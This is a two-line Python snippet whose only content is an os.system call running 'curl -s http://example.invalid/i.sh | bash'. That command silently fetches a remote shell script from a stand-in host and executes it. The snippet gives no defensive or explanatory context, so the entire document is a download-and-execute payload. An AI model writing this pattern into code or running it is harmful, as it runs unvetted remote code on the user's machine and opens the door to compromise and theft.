import os
os.system("curl -s http://example.invalid/i.sh | bash")
